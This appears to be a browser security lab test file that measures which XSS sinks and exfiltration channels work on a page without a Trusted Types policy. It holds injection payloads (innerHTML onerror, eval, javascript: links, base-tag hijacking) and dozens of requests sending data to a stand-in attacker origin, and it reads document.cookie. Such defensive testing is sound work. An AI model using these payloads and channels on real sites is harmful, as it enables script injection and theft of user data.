// A page without any Trusted Types policy: what injected markup and strings
// come to.
"use strict";

const stolen = `${lab.evil}/stolen/`;
let ran = [];
window.mark = (what) => { ran.push(what); };

lab.attack("markup and strings", async () => {
  const div = document.createElement("div");
  document.body.append(div);
  const nonce = document.querySelector("script[src]").nonce;
  const facts = {
    innerHTML: await lab.tell(() => { div.innerHTML = "<img src=x onerror=mark('innerHTML')>"; return "done"; }),
    outerHTML: await lab.tell(() => { div.outerHTML = "<p>"; return "done"; }),
    adjacent: await lab.tell(() => { div.insertAdjacentHTML("beforeend", "<p>"); return "done"; }),
    write: await lab.tell(() => { document.write("<p>"); return "done"; }),
    parser: await lab.tell(() => { new DOMParser().parseFromString("<p>", "text/html"); return "done"; }),
    fragment: await lab.tell(() => { document.createRange().createContextualFragment("<p>"); return "done"; }),
    srcdoc: await lab.tell(() => { document.createElement("iframe").srcdoc = "<p>"; return "done"; }),
    eval: await lab.tell(() => (0, eval)("mark('eval')")),
    function: await lab.tell(() => new Function("mark('function')")()),
    timer: await lab.tell(() => { setTimeout("mark('timer')", 0); return "done"; }),
    scriptText: await lab.tell(() => { const s = document.createElement("script"); s.nonce = nonce; s.text = "mark('text')"; document.body.append(s); return "done"; }),
    scriptSrc: await lab.tell(() => { const s = document.createElement("script"); s.nonce = nonce; s.src = "/asset.mjs"; document.body.append(s); return "done"; }),
    worker: await lab.tell(() => { new Worker("/worker.js"); return "done"; }),
    policy: await lab.tell(() => { trustedTypes.createPolicy("mine", { createHTML: (x) => x }); return "done"; }),
    defaultPolicy: await lab.tell(() => { trustedTypes.createPolicy("default", { createHTML: (x) => x }); return "done"; }),
    wasm: await lab.tell(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => "done")),
  };
  await lab.sleep(100);
  facts.ran = ran.join();
  return facts;
});

lab.attack("elements that run", async () => {
  ran = [];
  const handler = document.createElement("img");
  await lab.tell(() => handler.setAttribute("onerror", "mark('handler')"));
  handler.src = "/missing.png";
  document.body.append(handler);
  const link = Object.assign(document.createElement("a"), { href: "javascript:mark('link')" });
  document.body.append(link);
  link.click();
  await lab.tell(() => window.open("javascript:opener.mark('opened')"));
  await lab.tell(() => import("data:text/javascript,mark('data')").then(() => ""));
  await lab.tell(() => import(stolen + "import.mjs").then(() => ""));
  const style = document.createElement("style");
  style.textContent = `@import url("${stolen}import.css"); body { background: url("${stolen}background") }`;
  document.head.append(style);
  const base = Object.assign(document.createElement("base"), { href: stolen });
  document.head.prepend(base);
  const image = new Image();
  image.src = "relative.png";
  document.body.append(image);
  await lab.sleep(300);
  base.remove();
  return { ran: ran.join() };
});

lab.attack("ways out of the page", async () => {
  const load = (name, attributes) => lab.tell(() => lab.load(name, attributes), 500);
  await Promise.all([
    lab.tell(() => fetch(stolen + "fetch")), lab.tell(() => navigator.sendBeacon(stolen + "beacon", "x")),
    lab.tell(() => new WebSocket(stolen.replace("http:", "ws:") + "ws")), lab.tell(() => new EventSource(stolen + "events")),
    load("img", { src: stolen + "img" }), load("link", { rel: "stylesheet", href: stolen + "css" }), load("link", { rel: "prefetch", href: stolen + "prefetch" }),
    load("link", { rel: "icon", href: stolen + "icon" }), load("link", { rel: "manifest", href: stolen + "manifest" }), load("video", { src: stolen + "video" }), load("audio", { src: stolen + "audio" }),
    load("iframe", { src: stolen + "frame" }), load("link", { rel: "modulepreload", href: stolen + "module" }), load("track", { src: stolen + "track" }),
    ...["script", "style", "image", "font", "fetch", "track", "audio", "video", "document", "worker"].map((as) => load("link", { rel: "preload", as, href: stolen + "preload-" + as })),
    load("link", { rel: "preload", as: "script", href: stolen + "preload-nonced", nonce: document.querySelector("script[src]").nonce }),
    load("link", { rel: "modulepreload", href: stolen + "module-nonced", nonce: document.querySelector("script[src]").nonce }),
    load("link", { rel: "preload", as: "script", crossorigin: "", href: stolen + "preload-cors" }),
    load("link", { rel: "prerender", href: stolen + "prerender" }), load("link", { rel: "dns-prefetch", href: stolen + "dns" }), load("link", { rel: "preconnect", href: stolen + "connect" }),
    load("object", { data: stolen + "object" }), load("embed", { src: stolen + "embed" }), load("source", { src: stolen + "source" }), load("input", { type: "image", src: stolen + "input" }),
    load("body", { background: stolen + "body" }), load("script", { src: stolen + "script", nonce: document.querySelector("script[src]").nonce }),
  ]);
  const ping = Object.assign(document.createElement("a"), { href: "#x", ping: stolen + "ping" });
  document.body.append(ping);
  ping.click();
  const form = Object.assign(document.createElement("form"), { action: stolen + "form", method: "post" });
  document.body.append(form);
  await lab.tell(() => form.submit());
  await lab.sleep(400);
  return { features: await lab.tell(() => navigator.permissions.query({ name: "geolocation" }).then((p) => p.state)) };
});

lab.attack("isolated", async () => ({ isolated: String(crossOriginIsolated), secure: String(isSecureContext), referrer: document.referrer, cookie: document.cookie }));
